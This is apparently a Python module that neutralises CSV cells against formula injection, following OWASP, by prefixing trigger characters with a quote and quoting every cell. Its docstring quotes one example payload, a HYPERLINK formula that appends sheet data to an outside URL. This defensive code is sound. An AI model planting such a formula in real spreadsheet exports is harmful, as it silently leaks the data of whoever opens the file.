"""CSV cells that a spreadsheet shows as text, never runs as a formula (OWASP "CSV Injection").

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula: a case label ``=HYPERLINK("http://host/?"&A1,"open")``
sends the sheet's data elsewhere when a reviewer opens the export. OWASP's recommendation, followed
here for every CSV cell NBRisk writes from text a person or a file chose: prefix such a cell with a
single quote (the spreadsheet then shows the text, quote hidden) and wrap every cell in double
quotes, doubling any double quote inside (``csv.QUOTE_ALL``). Numbers are written as numbers: only
text is neutralised, so a negative HU or a negative lab value stays a number.

Reference: https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

#: first characters that make a spreadsheet evaluate a cell (OWASP CSV Injection)
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` when it is text that a spreadsheet would run as a formula.

    Examples
    --------
    >>> neutralise_cell("=1+1"), neutralise_cell("-2"), neutralise_cell(-2.0), neutralise_cell("P0007")
    ("'=1+1", "'-2", -2.0, 'P0007')
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_writer(buffer):
    """A ``csv.writer`` that quotes every cell (OWASP: each cell wrapped in double quotes)."""
    return csv.writer(buffer, quoting=csv.QUOTE_ALL)


def write_rows(buffer, rows: Iterable[Iterable[Any]]) -> None:
    """Write ``rows`` to ``buffer`` with every text cell neutralised and every cell quoted."""
    csv_writer(buffer).writerows([neutralise_cell(cell) for cell in row] for row in rows)
